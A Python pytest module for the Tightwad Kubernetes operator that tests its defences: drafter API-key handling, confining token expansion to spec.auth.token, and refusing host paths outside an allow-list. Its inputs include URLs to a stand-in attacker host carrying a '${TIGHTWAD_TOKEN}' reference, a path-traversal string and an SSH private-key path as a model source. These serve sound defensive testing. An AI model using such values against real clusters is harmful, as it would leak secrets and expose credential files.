"""The Kubernetes part of the security review: what a TightwadCluster author can and cannot reach.

- Drafters Tightwad runs are protected by the cluster's token, and the proxy's drafter client sends
  it (a real llama-server started as the operator starts it: drafts, not 401s).
- `${TIGHTWAD_TOKEN}` is expanded only in `spec.auth.token`, from the Secret: written anywhere else
  in a CR (a drafter's apiKey, a URL, a swarm peer) it stays literal text in every pod, so the token
  never travels to a URL the CR chose.
- Host paths: a CR reaches only the folders the chart's `hostPaths.allowed` lists; anything else is
  refused with a status error naming the field. Model folders are handed to the unprivileged user.
"""

from __future__ import annotations

import asyncio
import copy
import json
from typing import Any

import httpx
import pytest
import yaml
from kubernetes_asyncio import client
from support.kubeapi import ROOT, RecordingWorkloads, validate
from support.procs import Processes

from tightwad import models
from tightwad.launch import free_port, wait_for_http
from tightwad.manifest import Manifest, parse_manifest
from tightwad.operator.commands import Binaries, command, environment
from tightwad.operator.desired import desired_state
from tightwad.operator.kubernetes.controller import MANIFEST_IN_POD, Operator, Options, _parser, settings_from
from tightwad.operator.kubernetes.cr import cluster_manifest
from tightwad.operator.kubernetes.render import (
    CannotRender,
    Owner,
    RenderSettings,
    render_all,
    render_config,
)
from tightwad.operator.kubernetes.workloads import kubernetes_hosts
from tightwad.operator.units import Kind, ModelRef, Unit
from tightwad.proxy.config import DrafterConfig, ProxyConfig, from_manifest
from tightwad.proxy.drafters.base import DrafterError, DraftRequest
from tightwad.proxy.stack import make_drafter
from tightwad.toolchain import Toolchain

TOKEN = "s3cret-token-for-tests"
OWNER = Owner("homelab", "default", "6f1c9d1e-0000-4000-8000-000000000001", {"owner": "alex"})
EXAMPLE = ROOT / "examples" / "cluster-cr.yaml"
EVIL = "http://attacker.example"
UNPRIVILEGED = 10001  # the images' user (docker/runtime-stage.sh)


def cr(**edits: Any) -> dict[str, Any]:
    """The example CR as the API server hands it over (nothing interpolated), with `edits` to spec."""
    obj = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    obj["metadata"]["uid"] = OWNER.uid
    for drafter in obj["spec"]["drafters"]:
        if drafter["kind"] == "llama-server":
            drafter["port"] = 18090  # so the proxy finds it in the manifest
    obj["spec"].update(copy.deepcopy(edits))
    return obj


def units_of(m: Manifest) -> list[Unit]:
    desired = desired_state(m, manifest_path=MANIFEST_IN_POD)
    engine = desired.engine.with_spec(port=desired.engine_ports[0])
    return [u for u in (*desired.units, engine) if u.host in kubernetes_hosts(m)]


def render(m: Manifest, settings: RenderSettings | None = None) -> list[dict[str, Any]]:
    return render_all(units_of(m), m, OWNER, settings or RenderSettings(token_secret="tightwad-token"))


def pod_of(obj: dict[str, Any]) -> dict[str, Any]:
    return obj["spec"]["template"]["spec"] if "template" in obj["spec"] else obj["spec"]


# -- 13: drafters are protected, and the proxy sends their key -----------------------------------


def drafter_unit(port: int, token: str | None) -> Unit:
    return Unit(
        name="drafter-small",
        kind=Kind.DRAFTER,
        host="local",
        runtime="process",
        address="127.0.0.1",
        spec={"model": "small", "port": port, "bind": "127.0.0.1", "ctx": 4096, "threads": 1},
        models=(ModelRef("small", "catalog:smollm2-135m-q4_1"),),
        secrets={"TIGHTWAD_TOKEN": token} if token else {},
    )


def test_the_process_and_docker_drafter_gets_the_clusters_token_as_its_api_key() -> None:
    env = environment(drafter_unit(18090, TOKEN), Binaries())
    assert env["LLAMA_API_KEY"] == TOKEN, "the pinned llama-server reads its --api-key from LLAMA_API_KEY"
    argv = command(drafter_unit(18090, TOKEN), Binaries(), {"small": "/m/small.gguf"})
    assert TOKEN not in " ".join(argv), "never on the command line (ps shows it to everyone)"
    assert "LLAMA_API_KEY" not in environment(drafter_unit(18090, None), Binaries())


def test_the_proxy_sends_the_clusters_token_to_the_drafters_tightwad_runs() -> None:
    pods = parse_manifest(
        render_config(cluster_manifest(cr(), TOKEN), OWNER)["data"]["cluster.yaml"],
        environ={"TIGHTWAD_TOKEN": TOKEN},
    )
    small = next(d for d in from_manifest(pods).drafters if d.kind == "llama-server")
    assert small.api_key == TOKEN


def test_a_llama_server_drafter_given_by_flags_gets_the_proxys_engine_token() -> None:
    # The operator's proxy without a manifest: `--draft URL --draft-kind llama-server`, the token in
    # TIGHTWAD_TOKEN. Every llama-server drafter is one Tightwad runs, started with that token.
    seen: list[str | None] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers.get("authorization"))
        return httpx.Response(200, json={"tokens": [1, 2]})

    async def scenario() -> None:
        config = ProxyConfig(target_url="http://engine", target_token=TOKEN)
        drafter = make_drafter(
            DrafterConfig("llama-server", "http://drafter"),
            None,
            engine_token=config.target_token,  # type: ignore[arg-type]
        )
        drafter.client = httpx.AsyncClient(transport=httpx.MockTransport(answer))  # type: ignore[attr-defined]
        assert (await drafter.propose(DraftRequest((1,), 2))).tokens == (1, 2)
        await drafter.close()

    asyncio.run(scenario())
    assert seen == [f"Bearer {TOKEN}"]


@pytest.mark.integration
def test_a_real_llama_server_drafter_with_a_key_drafts_for_the_proxy(
    toolchain: Toolchain, processes: Processes
) -> None:
    port = free_port()
    unit = drafter_unit(port, TOKEN)
    binaries = Binaries(llama_server=str(toolchain.llama_server))
    argv = command(unit, binaries, {"small": str(models.resolve("smollm2-135m-q4_1"))})
    process, log = processes.start("drafter", argv, env=environment(unit, binaries))
    url = f"http://127.0.0.1:{port}"
    wait_for_http(f"{url}/health", timeout=60, process=process, log=log)  # health needs no key

    async def draft(config: ProxyConfig, drafter: DrafterConfig) -> tuple[int, ...]:
        d = make_drafter(drafter, None, engine_token=config.target_token)  # type: ignore[arg-type]
        try:
            return (await d.propose(DraftRequest((1, 2, 3, 4), 4))).tokens
        finally:
            await d.close()

    plain = ProxyConfig(target_url="http://engine")
    with pytest.raises(DrafterError, match="HTTP 401"):
        asyncio.run(draft(plain, DrafterConfig("llama-server", url)))  # it really is protected
    assert len(asyncio.run(draft(plain, DrafterConfig("llama-server", url, api_key=TOKEN)))) == 4
    keyed = ProxyConfig(target_url="http://engine", target_token=TOKEN)
    assert len(asyncio.run(draft(keyed, DrafterConfig("llama-server", url)))) == 4


# -- 14: the token is expanded only in spec.auth.token -------------------------------------------


def test_token_references_outside_auth_stay_literal_in_every_pod() -> None:
    spec_edits = {
        "drafters": [
            {"name": "small", "kind": "llama-server", "model": "qwen2.5-0.5b", "host": "xeon", "port": 18090},
            {
                "name": "remote",
                "kind": "openai",
                "url": f"{EVIL}/${{TIGHTWAD_TOKEN}}",
                "apiKey": "${TIGHTWAD_TOKEN}",
            },
            {"name": "literal", "kind": "ollama", "url": f"{EVIL}/$${{TIGHTWAD_TOKEN}}"},
        ],
        "swarm": {"peers": [f"{EVIL}/peer/${{TIGHTWAD_TOKEN}}"], "trackers": [f"{EVIL}/t?k=${{HOME}}"]},
    }
    operator_view = cluster_manifest(cr(**spec_edits), TOKEN)
    text = render_config(operator_view, OWNER)["data"]["cluster.yaml"]
    # What the proxy and the swarm sidecars read: the ConfigMap, with their own environment.
    pods = parse_manifest(text, environ={"TIGHTWAD_TOKEN": TOKEN, "HOME": "/root"})
    assert pods.token == TOKEN
    assert pods.spec == operator_view.spec, "every pod reads exactly what the operator validated"
    elsewhere = {**pods.data["spec"], "auth": None}
    assert TOKEN not in json.dumps(elsewhere) and "/root" not in json.dumps(elsewhere)
    remote = next(d for d in from_manifest(pods).drafters if d.name == "remote")
    assert remote.api_key == "${TIGHTWAD_TOKEN}" and TOKEN not in (remote.url or "")


# -- 15: host paths only where the chart allows them ---------------------------------------------


def _hosts_with_model_dir(folder: str, every: bool = False) -> list[dict[str, Any]]:
    """The example's hosts, xeon's (or every kubernetes host's) modelDir `folder`."""
    hosts = cr()["spec"]["hosts"]
    for host in hosts:
        if host["name"] == "xeon" or (every and host["runtime"] == "kubernetes"):
            host["modelDir"] = folder
    return hosts


@pytest.mark.parametrize("folder", ["/etc", "/var/lib/tightwad/models/../../../root", "/var/lib/tightwad"])
def test_a_model_dir_outside_the_allowed_host_paths_is_refused(folder: str) -> None:
    m = cluster_manifest(cr(hosts=_hosts_with_model_dir(folder)), TOKEN)
    with pytest.raises(CannotRender) as refused:
        render(m)
    message = str(refused.value)
    assert "spec.hosts[2].modelDir" in message and "hostPaths.allowed" in message


def test_a_model_source_outside_the_allowed_host_paths_is_refused() -> None:
    spec = cr()["spec"]
    spec["models"][1]["source"] = "/root/.ssh/id_ed25519"
    m = cluster_manifest(cr(models=spec["models"]), TOKEN)
    with pytest.raises(
        CannotRender, match=r"spec\.models\[\]\.source of model 'qwen2\.5-0\.5b'.*hostPaths\.allowed"
    ):
        render(m)


def test_allowed_host_paths_render_and_model_folders_belong_to_the_unprivileged_user() -> None:
    spec = cr()["spec"]
    spec["models"][1]["source"] = "/srv/gguf/small.gguf"
    m = cluster_manifest(
        cr(models=spec["models"], hosts=_hosts_with_model_dir("/srv/gguf/tw", every=True)), TOKEN
    )
    settings = RenderSettings(token_secret="t", allowed_host_paths=("/var/lib/tightwad/models", "/srv/gguf"))
    objects = {(o["kind"], o["metadata"]["name"]): o for o in render(m, settings)}
    for obj in objects.values():
        validate(obj)
    swarm = pod_of(objects[("DaemonSet", "homelab-swarm")])
    (init,) = swarm["initContainers"]
    assert init["securityContext"]["capabilities"] == {"drop": ["ALL"], "add": ["CHOWN"]}
    assert init["securityContext"]["allowPrivilegeEscalation"] is False
    assert f"{UNPRIVILEGED}:{UNPRIVILEGED}" in " ".join(init["command"])
    sidecar = swarm["containers"][0]
    assert sidecar["securityContext"]["runAsUser"] == UNPRIVILEGED
    assert sidecar["securityContext"]["runAsNonRoot"] is True


def test_the_operator_reads_the_allowed_host_paths_from_its_flags() -> None:
    args = _parser().parse_args(["--allowed-host-path=/srv/gguf", "--allowed-host-path=/data/models"])
    assert settings_from(args).allowed_host_paths == ("/srv/gguf", "/data/models")
    assert settings_from(_parser().parse_args([])).allowed_host_paths == ("/var/lib/tightwad/models",)


def test_a_cr_asking_for_another_host_path_gets_a_status_error_naming_the_field() -> None:
    async def scenario() -> dict[str, Any]:
        async with client.ApiClient() as api:
            operator = Operator(api, RecordingWorkloads(), token=TOKEN, options=Options(namespace="default"))
            obj = cr(hosts=_hosts_with_model_dir("/etc"))
            obj["metadata"]["generation"] = 1
            return await operator.pass_once(obj)

    status = asyncio.run(scenario())
    degraded = next(c for c in status["conditions"] if c["type"] == "Degraded")
    assert degraded["status"] == "True"
    assert "spec.hosts[2].modelDir" in degraded["message"] and "hostPaths.allowed" in degraded["message"]


def test_a_claim_for_the_models_is_handed_to_the_unprivileged_user_by_fs_group() -> None:
    m = cluster_manifest(cr(), TOKEN)
    objects = render(m, RenderSettings(token_secret="t", model_claim="models"))
    (swarm,) = [o for o in objects if o["kind"] == "DaemonSet"]
    validate(swarm)
    pod = pod_of(swarm)
    assert pod["securityContext"]["fsGroup"] == UNPRIVILEGED and "initContainers" not in pod
